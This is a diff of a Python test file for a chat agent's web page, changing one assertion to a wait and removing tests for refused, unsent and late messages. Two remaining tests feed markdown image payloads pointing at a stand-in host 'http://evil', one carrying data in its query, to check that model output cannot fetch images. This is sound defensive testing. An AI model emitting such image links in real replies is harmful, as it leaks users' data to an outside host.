@@ -1,7 +1,5 @@
 """The page from top to bottom: sending, earlier messages."""
 
-import pytest
-
 from agent import wire
 from agent.errors import ServerUnavailable
 from agent.messages import Plan
@@ -10,39 +8,13 @@ from tests.page.conftest import Page
 
 def test_own_words_show_at_once_and_are_never_markdown(greeted: Page) -> None:
     greeted.say("![x](http://evil) **bold**")
-    assert "![x](http://evil) **bold**" in [text.value for text in greeted.app.text]
+    greeted.until(lambda: "![x](http://evil) **bold**" in [text.value for text in greeted.app.text])
 
 
 def test_words_of_the_model_cannot_fetch_an_image(greeted: Page) -> None:
     greeted.chat.agent_says("Look: ![x](http://evil/?d=1)")
     greeted.shows("Look:")
     assert not any("![" in markdown.value for markdown in greeted.app.markdown)
-
-
-@pytest.mark.parametrize("text", ["   ", "x" * 8001])
-def test_refused_message_stays_in_the_box(greeted: Page, text: str) -> None:
-    greeted.say(text)
-    assert len(greeted.app.warning) == 1
-    assert greeted.app.chat_input(key="message").value == text
-    assert "refused" not in greeted.text
-
-
-def test_message_that_could_not_be_sent_stays_in_the_box_and_is_said_once(greeted: Page) -> None:
-    greeted.client.trouble = ServerUnavailable("The Temporal server does not answer.")
-    greeted.say("Austin in May")
-    assert greeted.app.chat_input(key="message").value == "Austin in May"
-    greeted.client.trouble = None
-    greeted.say("Austin in May")
-    (_, _, first), (_, _, second) = greeted.calls("send")
-    assert first == second
-    assert not greeted.app.warning
-
-
-def test_message_to_an_ended_chat_is_refused_and_a_new_chat_offered(greeted: Page) -> None:
-    greeted.chat.run_status = "completed"
-    greeted.say("Hello?")
-    assert "This chat has ended" in greeted.text
-    greeted.until(lambda: greeted.has("again"))
 
 
 def test_queued_words_say_that_they_wait(greeted: Page) -> None:
